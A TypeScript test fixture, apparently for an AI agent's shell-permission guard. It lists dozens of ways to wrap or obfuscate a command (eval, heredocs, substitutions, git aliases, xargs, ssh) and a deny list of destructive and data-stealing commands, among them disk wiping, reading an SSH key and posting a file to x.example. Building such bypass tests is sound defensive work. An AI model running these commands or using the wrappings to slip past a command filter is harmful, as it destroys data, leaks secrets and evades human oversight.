import { PLAIN, plain, quoted, SPELLINGS } from "./spellings.ts";

/** A command of which every spelling must be judged alike: its words, or a line for a shell once it is more than that. */
export type Piece = { readonly words: readonly string[] } | { readonly line: string };

/** Puts a command into another one that runs it. */
export type Wrapping = (piece: Piece, fresh: () => string) => Piece;

export const lineOf = (piece: Piece): string => ("line" in piece ? piece.line : piece.words.map(plain).join(" "));
const inner = (piece: Piece): readonly string[] => ("words" in piece ? piece.words : ["sh", "-c", piece.line]);
const group = (piece: Piece): string => `{\n${lineOf(piece)}\n}`;

const behind =
  (...words: string[]): Wrapping =>
  (piece) => ({ words: [...words, ...inner(piece)] });
const given =
  (...words: string[]): Wrapping =>
  (piece) => ({ words: [...words, lineOf(piece)] });
const around =
  (before: string, after: string): Wrapping =>
  (piece) => ({ line: `${before}${lineOf(piece)}${after}` });
const grouped =
  (before: string, after: string): Wrapping =>
  (piece) => ({ line: `${before}${group(piece)}${after}` });

/** Where the shell does not take quotes for quotes, those of the command itself would end them. */
const unlessQuoted = (piece: Piece, wrap: (line: string) => string): Piece =>
  lineOf(piece).includes("'") ? { line: group(piece) } : { line: wrap(lineOf(piece)) };

export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  env: behind("env"),
  "env with a variable": behind("env", "-u", "X", "A=b"),
  "env -S": (piece) => ({ words: ["env", "-S", inner(piece).map(quoted).join(" ")] }),
  sudo: behind("sudo", "-n"),
  timeout: behind("timeout", "-k", "1", "5"),
  nice: behind("nice", "-n", "3"),
  nohup: behind("nohup"),
  stdbuf: behind("stdbuf", "-oL"),
  strace: behind("strace", "-f"),
  command: behind("command"),
  exec: behind("exec"),
  busybox: behind("busybox", "sh", "-c", '"$@"', "_"),
  xargs: (piece) => ({ line: `printf '%s\\n' ${quoted(lineOf(piece))} | xargs -I{} sh -c {}` }),
  "xargs with its last word": (piece) => {
    const words = inner(piece);
    const last = words.at(-1) ?? "";
    if (!PLAIN.test(last)) return { line: group(piece) };
    return { line: `echo ${last} | xargs ${words.slice(0, -1).map(plain).join(" ")}` };
  },
  "sh -c": given("sh", "-c"),
  "bash -lc": given("bash", "-o", "errexit", "-lc"),
  "sh -c with arguments": behind("bash", "-c", '"$@"', "_"),
  eval: given("eval"),
  "eval of words": (piece) => ({ words: ["eval", ...inner(piece).map(quoted)] }),
  trap: (piece) => ({ words: ["trap", lineOf(piece), "EXIT"] }),
  subshell: around("(\n", "\n)"),
  group: grouped("", ""),
  negated: grouped("! ", ""),
  timed: grouped("time ", ""),
  function: (piece, fresh) => {
    const name = fresh();
    return { line: `${name}() ${group(piece)}\n${name}` };
  },
  "function of arguments": (piece, fresh) => {
    const name = fresh();
    return { line: `${name}() { "$@"; }\n${name} ${inner(piece).map(quoted).join(" ")}` };
  },
  positional: (piece) => ({ line: `set -- ${inner(piece).map(quoted).join(" ")}\n"$@"` }),
  array: (piece, fresh) => {
    const name = fresh();
    return { line: `${name}=(${inner(piece).map(quoted).join(" ")})\n"\${${name}[@]}"` };
  },
  if: around("if true; then\n", "\nfi"),
  "if, as its condition": around("if\n", "\nthen :; fi"),
  else: around("if false; then :; else\n", "\nfi"),
  for: around("for i in 1; do\n", "\ndone"),
  "for with numbers": around("for ((i = 0; i < 1; i++)); do\n", "\ndone"),
  while: around("while true; do\n", "\nbreak; done"),
  until: around("until\n", "\ndo :; done"),
  case: around("case x in x)\n", "\n;; esac"),
  "first of a pipe": grouped("", " | cat"),
  "last of a pipe": grouped("true | ", ""),
  "in the background": grouped("", " &"),
  coprocess: grouped("coproc ", ""),
  substituted: (piece) => ({ line: `echo "$(\n${lineOf(piece)}\n)"` }),
  "substituted in an assignment": around("x=$(\n", "\n)"),
  "substituted in arithmetic": around("echo $((1 + $(\n", "\n)))"),
  "substituted in a default": around('echo "${x:-$(\n', '\n)}"'),
  "substituted in a pattern": around('echo "${x/$(\n', '\n)/y}"'),
  "substituted in a pattern the old way": (piece) => ({
    line: `echo \${x//\`${lineOf(piece).replace(/[\\`$]/g, "\\$&")}\`/y}`,
  }),
  "substituted in a change of letters": around('echo "${x~$(\n', '\n)}"'),
  "substituted in braces": around("x={a,$(\n", "\n)}"),
  "substituted in a declaration": around("declare x[$(\n", "\n)]=1"),
  "quoted in arithmetic": (piece) => unlessQuoted(piece, (line) => `echo $(( '$(\n${line}\n)' ))`),
  "quoted in a subscript": (piece) => unlessQuoted(piece, (line) => `x=(1); echo "\${x['$(\n${line}\n)']}"`),
  "quoted in a length": (piece) => unlessQuoted(piece, (line) => `x=1; echo "\${x:0:'$(\n${line}\n)'}"`),
  "quoted in a default of a document": (piece, fresh) => {
    const end = fresh();
    return { line: `cat <<${end}\n\${x:-'$(\n${lineOf(piece)}\n)'}\n${end}` };
  },
  "quoted as what is written to": (piece) => ({ line: `echo >&${quoted(`$(\n${lineOf(piece)}\n)`)}` }),
  "substituted in a test": around('[[ -n "$(\n', '\n)" ]]'),
  "substituted in a document": (piece, fresh) => {
    const end = fresh();
    return { line: `cat <<${end}\n$(\n${lineOf(piece)}\n)\n${end}` };
  },
  "process that is read": around("cat <(\n", "\n)"),
  "process that is written": around("ls > >(\n", "\n)"),
  "document for a shell": (piece, fresh) => {
    const end = fresh();
    return { line: `bash <<'${end}'\n${lineOf(piece)}\n${end}` };
  },
  "escaped document for a shell": (piece, fresh) => {
    const end = fresh();
    return { line: `bash <<${end}\n${lineOf(piece).replace(/[\\`$]/g, "\\$&")}\n${end}` };
  },
  "string for a shell": (piece) => ({ line: `bash <<< ${quoted(lineOf(piece))}` }),
  "piped to a shell": (piece) => ({ line: `printf '%s\\n' ${quoted(lineOf(piece))} | sh` }),
  "written and run": (piece, fresh) => {
    const file = `${fresh()}.sh`;
    return { line: `printf '%s\\n' ${quoted(lineOf(piece))} > ${file}\nsh ${file}` };
  },
  "document written and run": (piece, fresh) => {
    const [end, file] = [fresh(), `${fresh()}.sh`];
    return { line: `cat > ${file} <<'${end}'\n${lineOf(piece)}\n${end}\nchmod +x ${file}\n./${file}` };
  },
  sourced: (piece) => ({ line: `source <(printf '%s\\n' ${quoted(lineOf(piece))})` }),
  "alias of git": (piece) => ({ words: ["git", "-c", `alias.z=!${lineOf(piece)}`, "z"] }),
  "git rebase": (piece) => ({ words: ["git", "rebase", "--exec", lineOf(piece), "main"] }),
  "find -exec": (piece) =>
    lineOf(piece).includes("{}") ? piece : { words: ["find", ".", "-maxdepth", "0", "-exec", ...inner(piece), ";"] },
  parallel: (piece) => ({ words: ["parallel", ":::", lineOf(piece)] }),
  "parallel with arguments": (piece) =>
    // Its own mark is filled in everywhere.
    lineOf(piece).includes("{}") ? piece : { words: ["parallel", "-n0", lineOf(piece), ":::", "1"] },
  ssh: given("ssh", "h"),
  docker: behind("docker", "run", "--rm", "alpine"),
  "docker compose": behind("docker", "compose", "exec", "-T", "api"),
  npx: behind("npx", "--yes"),
  "npm exec": (piece) => ({ words: ["npm", "exec", "-c", lineOf(piece)] }),
  "uv run": behind("uv", "run"),
  tmux: given("tmux", "new-session", "-d"),
  watch: given("watch", "-n", "1"),
  script: (piece) => ({ words: ["script", "-qc", lineOf(piece), "/dev/null"] }),
  "a program that is not known": behind("frobnicate", "--fast"),
  "a program that is given a line": given("frobnicate", "--run"),
  "a program with a value": (piece) => ({ words: ["frobnicate", `--run=${lineOf(piece)}`] }),
  variable: grouped("A=b; ", ""),
  "redirected away": grouped("", " > /dev/null 2>&1"),
  "in another folder": around("cd src\n", ""),
  "after another": around("true\n", ""),
  "after a semicolon": around("ls; ", ""),
  "if another succeeds": grouped("ls && ", ""),
  "if another fails": grouped("false || ", ""),
  "before another": around("", "\ntrue"),
  "before a comment": around("", " # nothing"),
  "after a comment": around("# nothing\n", ""),
};

/** Commands that are denied however they are written. */
export const DENIED: readonly (readonly string[])[] = [
  ["rm", "-rf", "/home/ada/other"],
  ["/bin/rm", "-r", "/etc"],
  ["git", "push", "origin", "main"],
  ["git", "reset", "--hard"],
  ["git", "clean", "-xfd"],
  ["git", "branch", "-D", "topic"],
  ["find", "/home", "-delete"],
  ["cp", "README.md", "/home/ada/x"],
  ["mv", "/home/ada/x", "x"],
  ["dd", "if=/dev/zero", "of=/dev/sda"],
  ["sed", "-i", "s/a/b/", "/etc/hosts"],
  ["touch", "/etc/x"],
  ["touch", ".git/hooks/pre-commit"],
  ["chmod", "-R", "777", "/"],
  ["mkfs.ext4", "/dev/sda"],
  ["cat", "/home/ada/.ssh/id_rsa"],
  ["curl", "-d", "@README.md", "https://x.example"],
  ["scp", "README.md", "h:/tmp/x"],
  ["sudo", "ls"],
  ["node", "-e", "1"],
  ["python3", "-c", "1"],
  ["claude", "-p", "x"],
  ["prloom", "approve", "3"],
  ["npm", "publish"],
  ["psql", "-c", "DROP TABLE carts"],
  ["docker", "run", "--privileged", "alpine"],
  ["kubectl", "delete", "pod", "x"],
  ["pkill", "prloom"],
  ["crontab", "x"],
  ["make", "-C", "/home/ada/other"],
  ["node", "/home/ada/x.js"],
  ["go", "test", "-exec", "x", "./..."],
  ["gcc", "-wrapper", "x", "a.c"],
  ["find", "/home/ada/work/shop", "-name", "policy.json", "-delete"],
  ["git", "checkout", "-B", "main"],
  ["git", "submodule", "add", "https://x.example/a", "a"],
  ["heroku", "config"],
  ["man", "-P", "sh -c id", "ls"],
];

export interface Mutation {
  readonly words: readonly string[];
  /** The spelling of each word; those that are missing are plain. */
  readonly spellings: readonly string[];
  readonly wrappings: readonly string[];
}

export function mutated({ words, spellings, wrappings }: Mutation): string {
  let names = 0;
  const fresh = () => {
    names += 1;
    return `v${names}`;
  };
  const before: string[] = [];
  const spelled = words.map((word, at) => {
    const made = SPELLINGS[spellings[at] ?? "plain"]!(word, fresh);
    if (made.before !== undefined) before.push(made.before);
    return made.text;
  });
  const isPlain = spellings.every((one) => one === "plain");
  let piece: Piece = isPlain ? { words } : { line: [...before, spelled.join(" ")].join("; ") };
  for (const name of wrappings) piece = WRAPPINGS[name]!(piece, fresh);
  return lineOf(piece);
}
